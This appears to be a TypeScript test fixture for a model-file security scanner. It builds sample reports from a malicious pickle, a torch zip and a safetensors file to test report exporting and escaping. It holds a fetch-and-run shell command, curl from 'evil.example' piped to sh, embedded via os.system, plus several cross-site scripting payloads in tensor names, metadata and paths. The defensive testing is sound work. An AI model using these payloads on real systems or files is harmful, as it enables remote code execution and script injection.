/**
 * Reports for the exporter tests, made by the real scanner on small inputs
 * built in test code: a malicious raw pickle, a torch zip whose data.pkl calls
 * os.system (findings inside a container entry), and a safetensors file whose
 * path, tensor names and metadata are hostile markup.
 */
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createReport } from '../../src/report/report.ts';
import type { FileReport, Report } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import { payload } from '../builders/pickle.ts';
import { buildSafetensors } from '../builders/safetensors.ts';
import { torchZip } from '../builders/torch.ts';

export const CREATED_AT = new Date('2025-03-04T05:06:07.000Z');

/** The shell command the malicious pickles run; pipes and quotes test table and code escaping. */
export const SHELL_COMMAND = 'curl -s http://evil.example/x.sh | sh # `id` [x](javascript:alert(1))';

export const HOSTILE = {
  tensorName: '<img src=x onerror=alert(1)>',
  metadataKey: '<b onmouseover=alert(2)>key</b>',
  metadataValue: '</script><script>alert(1)</script>',
  styleBreaker: '</style><style>body{display:none}</style>',
  path: 'models/<svg onload=alert(3)> "q" & `tick` | pipe [l](http://x).safetensors',
} as const;

export async function scanBytes(bytes: Uint8Array, name: string): Promise<FileReport> {
  return scanSource(createMemorySource(bytes, name), { createSha256: createNodeSha256 });
}

export function hostileSafetensorsBytes(): Uint8Array {
  return buildSafetensors(
    [
      { name: HOSTILE.tensorName, dtype: 'F16', shape: [2, 3] },
      { name: 'model.embed_tokens.weight', dtype: 'BF16', shape: [4, 2] },
      { name: 'lm_head.weight', dtype: 'F32', shape: [3] },
    ],
    {
      [HOSTILE.metadataKey]: HOSTILE.metadataValue,
      note: HOSTILE.metadataValue,
      style: HOSTILE.styleBreaker,
      format: 'pt',
    },
  );
}

/** Three files: a malicious pickle, a malicious torch zip, a clean safetensors with hostile strings. */
export async function sampleReport(): Promise<Report> {
  const files = [
    await scanBytes(payload('os', 'system', SHELL_COMMAND), 'evil.pkl'),
    await scanBytes(torchZip({ dataPkl: payload('os', 'system', SHELL_COMMAND) }).bytes(), 'checkpoints/model.pt'),
    await scanBytes(hostileSafetensorsBytes(), HOSTILE.path),
  ];
  return createReport(files, CREATED_AT);
}

/** A report of one synthetic file, for limits (thousands of tensors, long arrays) without building big files. */
export function syntheticReport(file: Partial<FileReport>): Report {
  return createReport(
    [
      {
        path: 'synthetic.safetensors',
        size: 1024,
        format: 'safetensors',
        sha256: 'a'.repeat(64),
        verdict: 'clean',
        findings: [],
        tensors: [],
        metadata: {},
        ...file,
      },
    ],
    CREATED_AT,
  );
}
